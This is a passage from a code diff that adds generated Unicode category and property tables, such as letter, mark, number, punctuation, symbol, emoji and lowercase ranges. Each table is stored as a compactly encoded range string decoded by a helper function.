-BBD1BBpBLB1DEBCmEBqDJBCsBBDeBEFBDFBDFBDCBkBLBCZBCSBCBBCOBDNBjB6DBmMcBEwBBwBfBOTBCHBHlBBLdBDjBBFHBhEtCBjDnBBJzBB9CzBBN2JBKVBLHB5EFBDCCBqBBCBBEDDBVBLWBKeBiCSBCBBLVBLZBHZBnB3BBHBBhCQQBCBCCBCcBrBcBEcBkBHBCbBc1BBLVBLSBORBvDoCB4FjBBnBDBCxJxJBoBBHBBRCBCBB5BcBLJJBUBrBRBvBUBcWBN0BB6BBBDOOBrBBhBYBbjBBeDDJiBBENNBuBBPDBWCCkBRBCYBUBBgCGBCCCBCBCOBCJBIuBBnBHBDBBDVBCGBCBBCEBETTNEBfJBCDDClBBCaaCtBtBBzBBTDBVCBfvBBVBBC5F5FBtBBqBDBlBvBBV8B8BBpBBOoCoCBZBmBGB6FrBB0GHBDDDBGBCBBCXBQCC-CHBDmBBRCCdLLBmBBIWWMtBBUTTBnCBoGgBBgBIBCkBBSyByBBcBxDGBCBBClBBWaaBEBCBBCfBPYYBnBBCBBlISBQCCBLBChBB9DwCwCB4cBnHjGBtyCgDBQvhBBSFBa68DBGmSB61GdBj3B4RBIeBSuCBSdBTvBB0BUBGSB0NnBB2MqCBGwFwFB0mHBqBfBiDyDBuwIiJBQeeBBBDPPBCBJrMBloCqDBGMBEIBIJBxzI2P2PBrBBiBiKiKBcBTrBBlPaBmHdBDwGwGBdBCCBCBBCGBDEBKiHiHBFBCDBCBBCOBCkGB8pBDBCaBCBBCDDCJBCDBCCCHFFCECBBBCBBCDDCICBCCDDBCGBCDBCDBCCCBIBCQBGCBCEBCQBlqE-2pBBhB9oEBDt0FBDwpHBQtTBjtC9QBjvBq6EBGppIB", false)),
+    Lt: () => new UnicodeRangeTable(decodeRanges("lOGDnB2sH2sHBGBJHBJHBNQQwBAB", false)),
+    Lu: () => new UnicodeRangeTable(decodeRanges("hCZBmDWBCGBiB2BCDOCDuBCBECEBBCCCBCCBBBDDBCBBCCBEBBCBBCECBCCDCCBCCBBBCCCBEEIJDCMCDQCDDDCCBC4BCIBBCBBDCCBCBCGCiJCCEJJHCCBBBCCCBCCBPBCIBkBDDBBBEWCGDDCBBDyBBxBgBCK2BCBMCD+CCDlBBq6ClBBCGGzW1CB0kCHHBpBBDCBhK0ECKgDCKHBJFBLHBJHBJFBMGCJHBpCDBNDBNDBNEBMDBnIFFECBDCBDEEBDBHGCBCBDDBLBBG+B+B9zCvBBxBCCBBBDGCBCBCDDJCBCgDCJCCFuqeuqeCqBCUaCoEMCE8BCLECBICFCCDCCEUCBDBCEBCOCBCBCCCBQCZs5Vs5VBYBmmBnBBpEjBB9EKBCOBCGBCBBr3ByBB+EVB75CfBhsVfBhCYBoqZZBbZBbZBbCCBGDBDDBCBCHBbZBbBBCDBDHBCGBcBBCDBCEBCEEBFBcZBbZBbZBbZBbZBbZBfYBiBYBiBYBiBYBiBYBiB2pE2pEBgBB", false)),
+    M: () => new UnicodeRangeTable(decodeRanges("gYvDB0IGBoIsBBCCCBCCBCCpCKBxBUBRmDmDBFBDFBDBBCDBkBffBZB8CKB7BIBKZZBCBCIBCCBCEBsBCB8BIBrBXBCgBB3BCBCRBCGBLBBeCB5BCCBFBDBBDCBKLLBbbDCB5BCCBDBFBBDCBEffBEEMCB5BCCBGBCCBCCBVBBXFBCCB5BCCBFBDBBDCBICBLBBf8B8BBDBECBCDBKpBpBBDB4BCCBFBCCBCDBIBBMBBeCB5BCCBFBCCBCDBIBBMBBQNNBCB4BBBCGBCCBCDBKLLBeeBBBnCFFBEBCCCBGBTBB+BDDBFBNHBjDDDBHBMGBqCBBcECFBByBTBCBBGKBCjBBKlDlDBSBYDBFCBCCBDGBEDBOLBCLLBCBgWCBzdDBdCBeBBfBBhCfBKuBuBBBBC2D2DBjBjB3DLBFLB8GEB6BJBCcBDxBxBBsBBDLBVEBwBQBnBIBNCBfMB5BNBxBTB5ECBCUBFHHDCBnG-BBxWgBB--CCBuEhDhDBeBrRFBqDBB1udDBCJBhBBBxCBBxIEEFYYBDBF0C0CBzBzBBQBbRBOnBnBBGBaMBtBDBwBNBlBkCkCBMBNJJBuBuBBBBzBCCBBBDBBGBBCqBqBBDBGBBtHHBCBBx5TiXiXBOBRPBuejHjH2EEBn0BCBCBBGDBpBCBFmFmFB+R+RBCBiCEB+JBBuCFBnCKByBDB7DCB2BOBqBDDBLLBCBuBKBI+B+BBBBlBNBRBBtBNNBBBxBNBJDBCBB9CLBHDD+ELBWDB4BBBCGBDBBDCBKLLBDDBFBEEBkCIBCDDCDBCEBCPPBzCzCBQBYyCyCBSBsHGBDIBcBBzCQBrDMBmDOBhIOB2HFBCBBDDBCCCBuEuEBFBDGBEddBIBpBGBCDBJKKBJBvBPBnGHBoGHBCHBzCVBCNB7DFBECCBCCBFBCjCjCBDBCBBCEB8KDBKBBCxBxBBFBEEBYmnFmnFHOBpmLRBhuCEB8BGB5gBCCB1BBIDByCMMBslTslTBizEizEBsBBDWB-QEBEFBJHBDGBfDB1ECB89B2BBFxBBJPPXEBCOBxqBGBCQBDGBCBBCEBlDhFhFBFB4L+B+BBCB9PDB-HBB0HDDIBBG7O7OBFBuDGB29lYvHB", false)),
+    Mc: () => new UnicodeRangeTable(decodeRanges("joC4B4BDCBJDBCBBzBBB7BCBHBBDBBLsBsB7BCBjC7B7BBBBJCCB2B2BB7B7BCHHBDDBLLnDBBCBBECBCCBLqBqBBBB+BDB+BBB7BCCBDBDBBCBBKBBdPPB7B7BBBBGCBCCBLrBrBBsCsCBBBHHBTBBrKBBgCsFsFBFFHDDBaaBLLBBBDGBWBBDFBDLLBBB5zBffiEIIBGBCBB7KDBDCBFBBCFBhHBB7BCCKCCBJJBEByExBxBGCCBDBCBB+BffFBBD9B9BDCBCEEBxBxBBGBJBBsFWW35EBB0-dBBD5C5CBzBzBBOBvEBBwBxBxBBFFBDDBBBvDBBDBBZuBuBCuDuDDBBGuHuHBCCBCCBCC0gZCCgEuBuBBBBFBB0DZZB8B8BxBCBKBBO+C+CBBBEBBCrFrFBBBgBBB7BBBCDBDBBDCBKLLB1C1CBBBIDDCDBCBBCmDmDBBBJBBErDrDBBBHCCBCBDuHuHBBBHDBDyDyDBBBJBBCuDuDCBBHoDoDCBBFmImIBBBK4H4HBEBCBBFDDCvEvEBBBJDBF1C1CeBB-BqGqGECCoGPPrDIID2G2GBDBFBBC-K-KBNNxBBBJBBCpvQpvQBBBlxD2BBpDBB0rYBBHFB", false)),
+    Me: () => new UnicodeRangeTable(decodeRanges("okBBB1xF-wB-wBBCBCCBsshBCB", false)),
+    Mn: () => new UnicodeRangeTable(decodeRanges("gYvDB0IEBqIsBBCCCBCCBCCpCKBxBUBRmDmDBFBDFBDBBCDBkBffBZB8CKB7BIBKZZBCBCIBCCBCEBsBCB8BIBrBXBCfB4BCCFHBFEEBFBLBBe7B7BFDBJVVBbbDBB6BFFBFFBDDBBBEffBEEMBB6BFFBDBCBBFVVBXXBEBC7B7BDCCBCBJIIBMMBff+BNNzBEE4BCCBBBGCBCDBIBBMBBe7B7BDHHGBBVBBdBB6BBBFDBJVVBeepCIIBBBC7C7CDGBNHBjDDDBHBMGBqCBBcEC4BNBCEBCBBGKBCjBBKnDnDBCBCFBCBBDBBaBBFCBRDBODDBHHQgWgWBBBzdCBeBBfBBfBBhCBBCGBJDDBJBKuBuBBBBC2D2DBjBjB3DCBFBBKHHBBB8GBBD7B7BCGBCCCDHBHJBDxBxBBMBCeBDLBVDBxBCCBDBCGGpBIBNBBhBDBDBBCCB5BCCBEECCB7BHBDBB5ECBCMBCGBFHHEBBnG-BBxWMBFEEBKB--CCBuEhDhDBeBrRDBsDBB1udFFBIBhBBBxCBBxIEEFaaBGG4EBBbRBOnBnBBGBaKBvBCBxBDDBCBDBBoBkCkCBEBDBBDBBNJJwB0B0BCCBDBBGBBCrBrBBJJvHDDFx5Tx5TiXPBRPBuejHjH2EEBn0BCBCBBGDBpBCBFmFmFB+R+RBCBiCEB+JBBuCFBnCKByBDB8D3B3BBNBqBDDBLLBBByBDBDBBI+B+BBBBlBEBCHB-BNNB1B1BBHBLDBDgDgDBBBDCCBHHD+E+EEHBWBB6BBBEmBmBBFBEEBnCFBOECPBB2CHBDCBCYY1CFBCFFBCCBvHvHBCBHBBCBBcBB2CHBDCCBrDrDCDDBEBCmDmDCDDBCBCEBkIIBCBBhIBBCFFxEDBDBBFhBhBBIBpBFBDDBJKKBEBDCBvBMBCBBnGCCBBBCqGqGBFBCFBCzCzCBUBDGBCBBCBB7DFBECCBCCBFBCpCpCBEEC8K8KBMMB1B1BBDBGCCYmnFmnFHOBpmLLBECBhuCEB8BGB5gBgCgCBCByC5lT5lTBizEizEBsBBDWBhRCBSHBDGBfDB1ECB89B2BBFxBBJPPXEBCOBxqBGBCQBDGBCBBCEBlDhFhFBFB4L+B+BBCB9PDB-HBB0HDDIBBG7O7OBFBuDGB29lYvHB", false)),
+    N: () => new UnicodeRangeTable(decodeRanges("wBJB5DBBGDDBBBitBJBnEJBnGJB9MJB3DJBFFBtDJB3DJB3DJBDFBvDMB0DJBJGBoDJBpDGBISBuDJBhDJB3DJBnCTBtIJBnCJBwWTBybCBwHJBHJBXJBtJJBhEKBmFJBHJB3FJB3CJBnEJBHJB3gBEEBEBHJBnGyBBDEB3W7BBvCVB3TdBqrBqYqYaIBPCB4KDBrEJBfHBCOBhBJBoBOBh7cJB9FJBhKFB7EJBnBJBnGJBXJB3CJB3MJB34UJBuPsBBN4BBSBB2KaBlBDBeJJnEEBrGJBvdHBaGBoBIBsCEBXFBhFBBDPBDtBBhCIB1BBBfCBsCEBpDHBZHBqBGBrKFBxBJBHJB3IeB-EJBrBDBxDGBnEdBhEJB9BJBxEJBITB8HJB3KJB3DJB3LJBnDJBHTBtCLBlNSB+CJB3UJB3CcBkHJBnCJB3BJBnLJBnDUBshBuDBimPJBnpCJB3CJBnEJBCGBvQJBnIWB+KCB6nXJBnuBTBNTBtDYB2iBxBBhqCJBnNJB3PJB4HJBtWIBhEJB4Y6BBCCBCDBtCsBBCOBjeMBk3CJB", false)),
+    Nd: () => new UnicodeRangeTable(decodeRanges("wBJnxBJnEJnGJ9MJ3DJ3DJ3DJ3DJ3DJ3DJ3DJ3DJ3DJhDJ3DJnCJ3IJnCJn6BJnBJtJJhEJnFJHJ3FJ3CJnEJHJnuiBJnVJnBJnGJXJ3CJ3MJ34UJnsBJnkCJHJ9YJhEJ9BJxEJ3IJ3KJ3DJ3LJnDJHTtCJnNJnDJ3UJ3CJ3HJnCJ3BJnLJ3uQJnpCJ3CJnEJ3QJ37XJ12CxBhqCJnNJ3PJ4HJ2aJ30EJ", true)),
+    Nl: () => new UnicodeRangeTable(decodeRanges("u3FCBwzCiBBDDB-zDaaBHBPCBs1dJBxyW0BBtOJJnEEBrhIuDBm8SCB", false)),
+    No: () => new UnicodeRangeTable(decodeRanges("yFBBGDDBBB2pCFB5LFB5DCBmEGB6GGBSIByNJB2hBTB0jBJBhP20B20BEFBHJBnGPBqB3W3WB6BBvCVB3TdBqrB1kB1kBBCBrEJBfHBCOBhBJBoBOBxrdFBymWsBBiCDBSBB2KaBlBDB1pBHBaGBoBIBsCEBXFBhFBBDPBDtBBhCIB1BBBfCBsCEBpDHBZHBqBGBrKFBhLeB-EJBrBDBxDGBnETB8LTBmqBBBvNIBobSB0aUBn8SGB-YWBqhZTBNTBtDYBvqFIBid6BBCCBCDBtCsBBCOBjeMB", false)),
+    P: () => new UnicodeRangeTable(decodeRanges("hBCBCFBCDBLBBEBBbCBCccCkBkBGEELBBEEE-VJJzOFBqBBB0BCCDDDtBBBVBBCBBOCCBBBrCDBnDsBsBBMBqHCB3BOBgBmImIBLLtE5D5D6DnMnMNwLwL7CLLBpFpFBNBCmBmBBCBoCrCrCBDBFBBwDFBsFlTlTBHB4EuTuTtBBBvCCBoCBB+ECBCCBmBKB6JBB5GBBhEGBCFBhFBBLGBdCB9DDB8BEB-BBBhCHBM9Z9ZBWBJTBCMBCLBfBBPBB6TDBeBB+hBNBwCBBgBJB0MVBgCDBhBBB8XDBCBBxDwEwEBtBBCfBDLBkNCBFJBDLBRNNjD7C7CjgdBBuICBkDLL0DFB9LDB3CBBpBCBCyByBBwBwBiDMBRBB9DDB-DBBRBB6HzqUzqUBxGxGBIBXiBBCNBCFFCBB2ECBCFBCDBLBBEBBbCBCccCCCBFB7MCB9UxBxB-MoXoXoGgBgBxIIBnBxDxDBFBjCGB6CDByO-J-JjBlElEBDBtBDB+FGBuDBBCDB-DDBxBBBwCDBFOOCCB5CFBsDrJrJBCCBzDzDBDBLBBCpDpD7HWBqDCBdMBtCjEjEBBB9HpIpIBBB8E9C9CBGB0CCBCEB+CJB4GgDgDBDBrBBBmUBBrCMBwFxjBxjBBDB97CBB8zOBBmEiCiCBDBJpRpRBBBoJDBoK9lT9lTovHEB07C-a-aBAB", false)),
+    Pc: () => new UnicodeRangeTable(decodeRanges("-Cg-Hg-HBUU-u3BBBZCBwHAB", false)),
+    Pd: () => new UnicodeRangeTable(decodeRanges("tB9qB9qB0BiyDiyDmgBqgCqgCBEBiwDDDgBBBFdd-NUUwDxszBxszBBmBmBLqFqFhzD-J-J", false)),
+    Pe: () => new UnicodeRangeTable(decodeRanges("pB0B0BgB+1D+1DC-6B-6BqtC4B4BQ7T7TCff-hBMCxChBhBCGC1MUChCCCiBmhBmhBCECtBGCtNICEGCDBB-ozB6G6GeOCESSCCCrF0B0BgBGD", false)),
+    Pf: () => new UnicodeRangeTable(decodeRanges("7F+6H+6HEddpuDCCFDDQEE", false)),
+    Pi: () => new UnicodeRangeTable(decodeRanges("rFt7Ht7HDBBDaapuDCCFDDQEE", false)),
+    Po: () => new UnicodeRangeTable(decodeRanges("hBCBCCBDECBLLBEEBcclCGGPBBI-V-VJzOzOBEBqB3B3BDDDtBBBVBBCBBOCCBBBrCDBnDsBsBBMBqHCB3BOBgBmImIBLLtE5D5D6DnMnMNwLwL7CLLBpFpFBNBCxDxDrCEBFBBwDFBsFlTlTBHBmY9D9DBBBoCBB+ECBCCBmBFBCDB6JBB5GBBhEGBCFBhFBBLGBdCB9DDB8BEB-BBBhCHBMjajaBJJBGBJIBDDBDCBEKBCCCBIB7kDDBCBBxDwEwEBFFBBBDDDBHBCBBCDDBLLBDBCJBDDBCCCBLBDCBtNCB6B+F+FjgdBBuICBkDLL0DFB9LDB3CBBpBCBCyByBBwBwBiDMBRBB9DDB-DBBRBB6HlxUlxUBFBDXXVBBDDBECBCDBICBHCCB2E2EBBBCCBDECBLLBEEBcclBDDB7M7MBBB9UxBxB-MoXoXoGgBgBxIIBnBxDxDBFBjCGB6CDB0ZlElEBDBtBDB+FGBuDBBCDB-DDBxBBBwCDBFOOCCB5CFBsDrJrJBCCBzDzDBDBLBBCpDpD7HWBqDCBdMBtCjEjEBBB9HpIpIBBB8E9C9CBGB0CCBCEB+CJB4GgDgDBDBrBBBmUBBrCMBwFxjBxjBBDB97CBB8zOBBmEiCiCBDBJpRpRBBBoJDBoK9lT9lTovHEB07C-a-aBAB", false)),
+    Ps: () => new UnicodeRangeTable(decodeRanges("oBzBzBgB-1D-1DC-6B-6B-rCEEnB4B4BQ7T7TCff-hBMCxChBhBCGC1MUChCCCiBmhBmhBCECaTTCECtNICEGCDipzBipzB4GeeCMCESSCCCrFzBzBgBEEDAB", false)),
+    S: () => new UnicodeRangeTable(decodeRanges("kBHHRCBgBCCcCCkBEBCBBDCCBCBDEEfgBgBrODBNNBGGBCCCBPB2DPPBxDxDsErIrIBBB3DCBDDDBvGvGLUUB4H4HIBBpEqLqLBHHB2H2H-DjEjEBGBlEwGwGqBmGmGiGCBQCCBBBDFBVECmEHBCFBCBBGDBmGBBxXJB0WuLuLlL+E+EBgBBiLJBKIBhiBCCBBBMCBOCBOCBOBBmCOOoBCBOCBUhBB-BBBCDBCBBLCCBBBGFBCECFMMBFFBDBGDBC7B7BBFFB2LBFcBD+HBXKByCtCBXnTBtBwBBDeBLyMBX+BBFfBD1LBDpEBmHFBmLBBvBZBC4CBN1GBbPBFOOBNNWBBHBB8CBB0HBBFJBhBlBBKRRBdBMdBJQQBeBLmBBQ-JBhuG-BBx0V2BB6RWBKBBoDBB+EDBLDB+RCBiHPPB+9T+9TpEgBBuLPBhCBB3BHBtBDBjDCCBBBD7E7EHRRBBBgBCCcCCiEGBCGBOBB6JIB6BQBDCBCMBEwBwBBrBB7zBBBwSmWmWBiKiKBGBnjC2kC2kCBbBr6SDBG3qU3qUk7DvHBLCBEzNBHWBQQBgDzDB9B1HBLmBBD7BBGCBXBBIdBF8BBWhCBE7F7FB1CBrbaagBaagBaagBaagBaa9B-PB4BDBzBHBCNBCBBp2BwNwNttCEE+DiOiOBvIvIBqBBFjDBNOBDOBCOBCkBBYgFB5BcBOrBBFIBIBBPFB7E4eBEQBEMBE5GBHLBFQQBKBF3BBJJBHnBBJdBDLBFBBPIBoB3KBJNBDMBEKBE4BBCFFBOBDLBFJBIyEBC7CBLAB", false)),
+    Sc: () => new UnicodeRangeTable(decodeRanges("kB+D+DBCBqnB8D8DzPBBzPBBI2H2HoImSmS8sClmClmCBgBB37hBkuVkuVtD7E7E8GBBEBB3-HDB-4wBxtCxtC", false)),
+    Sk: () => new UnicodeRangeTable(decodeRanges("+CCCoCHHFEEqQDBNNBGGBCCCBPB2DPPBjoBjoB15FCCBBBMCBOCBOCBOBB9kEBBkzdWBKBBoDBBxePPBniUniUBPB8bCCjF4g9B4g9BBDB", false)),
+    Sm: () => new UnicodeRangeTable(decodeRanges("rBRRBBB+BCCuBFFmBgBgB-XwQwQBBB8xGOOoBCBOCBsEoBoBBDBHlClCBDBGBBFGDIgBgBBDDCgBgBBqIBhBBB7CffBXBpBFB2OKK3BHBwDxKxKBDBDeBLPBhIiEBX+BBFfBDhIBxBUBDFB9+zB5Z5ZCCBlFRRBBB+BCCkEHHBCBitDBBhrwBx+Bx+BagBgBagBgBagBgBagBgBat5Ft5FB-uC-uCBHB", false)),
+    So: () => new UnicodeRangeTable(decodeRanges("mFDDFCCyerIrIBgEgEBvGvGLUUB4H4HkQ2L2LjEFBClElEwGqBqBoMCBQCCBBBDFBVECmEHBCFBCBBGDBmGBBxXJB0WzWzW+EhBBiLJBKIBksBBBCDBCBBLCCBHHBEBCECFMMBPPCBBC7B7BBKKBDBDDBCBBCBBCGBCeBDBBCCCBdBtIHBFTBDGBDwCBCdBanBBHnCBXKByCtCBX2FBCIBC1BBJuDBC3HBtBrBBhC-HBhQvBBWBBHmBBDpEBmHFBmLBBvBZBC4CBN1GBbPBFOOBNNWBBHBBxKBBFJBhBlBBKRRBdBMdBJQQBeBLmBBQ-JBhuG-BBx0V2BBibDBLBBC+R+RBBBqqUPBuLPBhCBB3BHBuBCBlPEEFBBOBB6JIB6BQBDCBCMBEwBwBBrBB7zBBBwSpgBpgBBGBnjC2kC2kCBGBFQBr6SDBG3qU3qUk7DvHBLCBEzNBHWBQPBhDzDB9B1HBLmBBD7BBGCBXBBIdBF8BBWhCBE7F7FB1CBqlB-PB4BDBzBHBCNBCBBp2B96C96CiEyWyWBqBBFjDBNOBDOBCOBCkBBYgFB5BcBOrBBFIBIBBPFB7E6HBG4WBEQBEMBE5GBHLBFQQBKBF3BBJJBHnBBJdBDLBFBB-B3KBJNBDMBEKBE4BBCFFBOBDLBFJBIyEBC7CBLAB", false)),
+    Z: () => new UnicodeRangeTable(decodeRanges("gBgEgEgvFgsCgsCBJBeBBGwBwBh9DAB", false)),
+    Zl: () => new UnicodeRangeTable(decodeRanges("ohIA", true)),
+    Zp: () => new UnicodeRangeTable(decodeRanges("phIA", true)),
+    Zs: () => new UnicodeRangeTable(decodeRanges("gBgEgEgvFgsCgsCBJBlBwBwBh9DAB", false)),
+    ASCII_Hex_Digit: () => new UnicodeRangeTable(decodeRanges("wBJIFbF", true)),
+    Alphabetic: () => new UnicodeRangeTable(decodeRanges("hCZBHZBwBLLFGGBVBCeBCpOBFLBPEBICC3CeeBQBCBBDDBCHHCCBCCCBSBCyCBCqEBJlFBClBBDHHBnBBoBNBCCCBCCBCCJaBFDBeKBG3BBCGBPlDBCHBFHBFCBLCBDRRBuBBOkDBZgBBKBBFGGBWBDSBUYBIKBGXBCGBIJJBoBBLLBEGBHrCBCPBCCBFOBOSBCHBDBBDVBCGBCEEBCBEHBDBBDBBCJJFBBCEBNBBLFFBBBCFBFBBDVBCGBCBBCBBCBBFEBFBBDBBFIIBCBCSSBEBMCBCIBCCBCVBCGBCBBCEBEIBCCBCBBEQQBCBWDBFCBCHBDBBDVBCGBCBBCEBEHBDBBDBBKBBFBBCEBORRBCCBEBECBCDBEBBCCCBEEBEEBBBELBFEBECBCCBEHHpBMBCCBCWBCPBEHBCCBCCBJBBCCBCBBDDBdDBCHBCCBCWBCJBCEBEHBCCBCCBJBBGCBCDBOCBNMBCCBCoBBDHBCCBCCBCGGBCBIEBXFBCCBCRBEXBCIBCDDBFBJFBCCCBGBTBBO5BBGGBH0B0BBECBDBCXBCCCBRBCCBDEBCHHPDBhBgCgCBGBCjBBFSBFPBCjBBkC2BBCDDBDBR-BBLDBDlBBCGGDqBBCsKBCDBDGBCCCBCBDoBBCDBDgBBCDBDGBCCCBCBDOBC4BBCDBDiCBmBPBR1CBDFBErTBDQBCZBGqCBEKBITBMUBNTBNMBCCBCBBNzBBDSBPFFkC4CBIqBBGlCBLeBCLBFIBYdBDEBMrBBFZB3BbBF+BBDTBzBYYBMMBBByBzBBCOBCHB0BpBBDDBLrBBCKBP2BBXCBLjBBDKBGqBBDCBqBDBCFBCBBEGGB+FBUhBBM1IBDFBDlBBDFBDHBCGCBdBD0BBCGBCEEBBBCGBEDBDFBFMBGCBCGB1DOORMBmDFFDJBCEEBDBHGCBCBCKBDDBGEBFSSBnBBuZzBB34BkHBHDBEBBNlBBCGGD3BBIRRBVBKGBCGBCGBCGBCGBCGBCGBCGBCfBwB2O2OBBBaIBIEBDEBF1CBHCBC5CBCDBGqBBC9CBSfBxBPBhQ-tGBhCs0VBkCtBBDsIBEPBLBBVuBBGHBEwDBoBIBDmDBDxCBVUBCgBBZzBBNjCBCtBtBBEBECCBBBLgBBGiBBOcBEyBBCLBQRRBOBLEBC2BBKNBTWBEkCBCCCZCBDPBDDBMFBDFBDFBKGBCGBCqBBCNBH6DBWj9KBNWBFwBBloItLBDpDBnBGBNEBGLBCMBCEBCCCBCCBCCBqDBiBqLBT-BBD1BBpBLB1DEBCmEBlBZBHZBM4CBEFBDFBDFBDCBkBLBCZBCSBCBBCOBDNBjB6DBmC0BBsIcBEwBBwBfBOdBGqBBGdBDjBBFHBCEBrB9EBTjBBFjBBFnBBJzBBNKBCOBCGBCBBCKBCOBCGBCBBEzBBN2JBKVBLHBZFBCpBBCIBmCFBDCCBqBBCBBEDDBVBLWBKeBiCSBCBBLVBLZBHZBnB3BBHBBhCDBCBBGHBCCBCcBrBcBEcBkBHBCbBc1BBLVBLSBORBvDoCB4ByBBOyBBOnBBjBbBEGGBVB7HpBBCBBEBBRFBzBCBEcBLJJBUBrBRBvBUBcWBKlCBsBEBL4BBKOOBXBYyBBSDBJiBBEKKB+BBCDBKBBLCCkBRBChBBDHHBCB-BGBCCCBCBCOBCJBI4BBYDBCHBDBBDVBCGBCBBCEBEHBDBBDBBEHHGGBdJBCDDClBBCJBCDDCDBCBBECCtBhCBCCBCDBVCBfhCBDBBC5F5FB0BBDGBaFBjB+BBCEE8B1BBDoCoCBZBDNBWGB6F4BBoD-BBgBHBDDDBGBCBBCdBCBBDBBDDB+CHBDtBBDFBCCCBccBxBBDJBSnCBGTTBnCBoDHB5CgBBgBIBCsBBCGBCyByBBcBDVBCNBqCGBCBBCrBBECCBCCBBBCDDBZZBEBCBBCkBBCBBCDBCYYBqBBlIWBKQBCoBBECBwDwCwCB4cBnDuDBSjGBtyCgDBQvhBBSFBa68DBGmSB61GuBBy2B4RBIeBSuCBSdBTvBBRDBgBUBGSBxNsBB0G-BBhBYBDYBtBqCBF4BBIQBhCBBCNNBFBK1mHBqBfBiDyDB+vIDBCGBCBBCiJBQeeBBBDPPBCBJrMBloCqDBGMBEIBIJBFi7Fi7FBzCBCmCBCBBDDDBDDBCBCLBCCCBFBCgCBCDBDHBCGBCbBCDBCEBCEEBFBCzKBDYBCYBCeBCYBCeBCYBCeBCYBCeBCYBCHB15BeBHFB2GGBCQBDGBCBBCEBG9BBiBxDxDBrBBLGBRiKiKBcBTrBBlPbBlHdBDwGwGBdBCVBJBBhHGBCDBCBBCOBCkGB8BjCBEEE1lBDBCaBCBBCDDCJBCDBCCCHFFCECBBBCBBCDDCICBCCDDBCGBCDBCDBCCCBIBCQBGCBCEBCQB1TZBHZBHZB3zD-2pBBhB9oEBDt0FBDwpHBQtTBjtC9QBjvBq6EBGppIB", false)),
+    Dash: () => new UnicodeRangeTable(decodeRanges("tB9qB9qB0BiyDiyDmgBqgCqgCBEB+BoBoBQnMnMlgDDDgBBBFdd-NUUwDxszBxszBBmBmBLqFqFhzD-J-J", false)),
+    Emoji: () => new UnicodeRangeTable(decodeRanges("jBHHGJBwDFFu8HNN5GXX7CFBQBBwLBBNnFnFaKBFCBoGoHoHBLLK7B7BBCBCEBKGDBDDFDDCBBDIEBJJBBBGCCGLBMBBDCCBCCTDDBTTBEBCCCBEEBGGDBBFBBMBBGBBDGGBECBVVBGGBEBCDBDFFDDDBEBCDDCCCHEEHLLBQQDFFCFFBBBCMMBxBxBBBBKeP1LBBwOCBUBB0BFF7mBNN6SCCrrvDrGrGhFBBNBBPDDBIBsCZBCBBYVVDIBWBBvFhBBDvDBDBBCCBDyCBDCBCmIBC+BBMFBCXBIBBDHBNDDBCBDFFBOOBDDJBBKGGBBBNCBJCBDCCFHHEHHB0CBxBlCBGHBDDBEJBECCBEEDJBkHLBF8I8IBtBBCJBC4FBxDMBEKBE4BBCFFBOBDLBFJB", false)),
+    Emoji_Component: () => new UnicodeRangeTable(decodeRanges("jBHHGJB0+H2G2Gsp3B3+8B3+8BBYB8PEBxtBDBtzhY-CB", false)),
+    Emoji_Modifier: () => new UnicodeRangeTable(decodeRanges("7-8DE", true)),
+    Emoji_Modifier_Base: () => new UnicodeRangeTable(decodeRanges("9wJ8G8GRDB4jzD9B9BBBBDDDBBB2DBBDKBWSBEFFBBBCCBICCZqGqGBFFWFFBvFvFBBBEEB0CRRBBBKMMgSDDJHBHKKBIBDCB5B+B+BBCCBCCSCBCMBmHCBrBIB", false)),
+    Emoji_Presentation: () => new UnicodeRangeTable(decodeRanges("64IBBuGDBEDDqQBBWBBzBLBsBUUOJJBSSBGGBJJGWWIBBCFFDIIFBBdkBkBCFFBBBC+B+BBBBZPP8aBB0BFFvlxDrGrG-FDDBIBsCZBCZZVDDBDBCCBWBBvFgBBNIBClCBCVBNqBBFEBNQBEEEBlCBCCCB5FBD+BBODBCXBTbbBOO3C0CBxBlCBHEEBBBDDBEDBMBBIIBkHLBF8I8IBtBBCJBC4FBxDMBEKBE4BBCFFBOBDLBFJB", false)),
+    Extended_Pictographic: () => new UnicodeRangeTable(decodeRanges("pFFFu8HNN5GXX7CFBQBBwLBBNnFnFaKBFCBoGoHoHBLLK7B7BBCBCEBKGDBDDFDDCBBDIEBJJBBBGCCGLBMBBDCCBCCTDDBTTBEBCCCBEEBGGDBBFBBMBBGBBDGGBECBVVBGGBEBCDBDFFDDDBEBCDDCCCHEEHLLBQQDFFCFFBBBCMMBxBxBBBBKeP1LBBwOCBUBB0BFF7mBNN6SCCrrvDoBoBBCBlDLBQBBQPPBmBmBBIBxDBBNBBPDDBIBU3BBcOBLVVDIBCDBKWBH7FBDvDBDBBCCBDyCBDCBCDBG9HBC+BBMFBCXBIBBDHBNDDBCBDFFBOOBDDJBBKGGBBBNCBJCBDCCFHHEHHB0CBxBlCBGHBDQBECCBEBDMB7GlBBNDB5BHBLFBpBHBfBBNDBDNBKmBBNuBBCJBC4FB5CHBPxEBhI9fB", false)),
+    Hex_Digit: () => new UnicodeRangeTable(decodeRanges("wBJIFbFq1-BJIFbF", true)),
+    Lowercase: () => new UnicodeRangeTable(decodeRanges("hDZBwBLLFlBlBBWBCHBC2BCBQCBuBCDECBBBDCCDEEBFFDEEBBBDDDCCCDCCBCCDEECDDBDDBBBHGDCOCBSCBDDCEEC4BCBFBDDDBCCFICBjCBDiBBIBBfEBhDsBsBCEEDDBTccBhBBCBBECBCWCBDBCGDB0B0BBuBBCgBCK0BCDMCBgDCxBoBBo6CqBBCDB5XFBjkCIBC2D2DB+FBiC0ECBHBCgDCBHBJFBLHBJHBJFBLHBJHBJNBDHBJHBJHBJEBCBBHEEBBBCBBJDBDBBJHBLCBCBB6DOORMBuDEEBEEcKFDBBJDBFiBiBBOBFsasaBYBn6BvBBCEEBGCFCCBCCBGBEiDCBIICFFNlBBCGG0oesBCUaCBBBmEMCBBBC8BCBIBCCCDICFCCDCCBBBCSCGGGCMCFCCDOCWDBCCCBBB2ZqBBCNBHvCBh6TGBNEBqhBZBumBnBBpEjBB8EKBCOBCGBCBBkODDBBBCpBBCIBmoByBB+DVB75CfBhsVfB8BYBnqZZBbGBCRBbZBbDBCCCBFBCKBbZBbZBbZBbZBbZBbZBbZBbZBbbBdYBCFBbYBCFBbYBCFBbYBCFBbYBCFBC15B15BBIBCTBHFBmI9BB1lChBB", false)),
